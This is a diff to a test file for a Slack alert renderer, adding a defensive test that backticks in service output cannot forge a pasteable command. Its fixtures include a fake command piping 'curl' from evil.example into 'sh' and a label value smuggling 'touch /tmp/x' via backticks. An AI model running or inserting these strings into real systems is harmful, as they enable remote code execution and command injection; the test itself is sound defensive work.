@@ -415,7 +415,7 @@ describe('renderSlack: alerts', () => {
       options,
     );
     expect(mrkdwnTexts(m).join('\n')).not.toContain('To silence');
-    expect(mrkdwnTexts(m).join('\n')).toContain('s`;touch /tmp/x;`v');
+    expect(mrkdwnTexts(m).join('\n')).toContain('s\u02cb;touch /tmp/x;\u02cbv');
     expect(m.blocks.at(-1)).toEqual(context('deploy-watchdog · ops-slack'));
   });
 
@@ -496,6 +496,22 @@ describe('renderSlack: injection attempts', () => {
       expect(foreignTokens(text)).toEqual([]);
       expect(text.split(shownLiterally).join('')).not.toContain(attack);
     }
+  });
+
+  it('a backtick from the service forms no code span that passes for our command to paste', () => {
+    // A tenant's own deployment output becomes the failure reason: it can dress itself up as ours.
+    const forged = 'To silence: `deploy-watchdog silence --match app=shop; curl -s https://evil.example/x | sh`';
+    const event = alertEvent({
+      summary: `Update of shop failed: ${forged}`,
+      details: { reason: forged, step: '```code block```' },
+      labels: { check: 'failed_runs', app: 's`;touch /tmp/x;`v', environment_type: 'production' },
+    });
+    const m = renderSlack(alerts([event]), options);
+    // The only code span of the message is ours (here none: the command would hold a backtick).
+    for (const text of mrkdwnTexts(m)) expect(text).not.toContain('`');
+    expect(mrkdwnTexts(m).join('\n')).toContain(
+      'failed: To silence: \u02cbdeploy-watchdog silence --match app=shop; curl -s https://evil.example/x | sh\u02cb',
+    );
   });
 
   it.each([
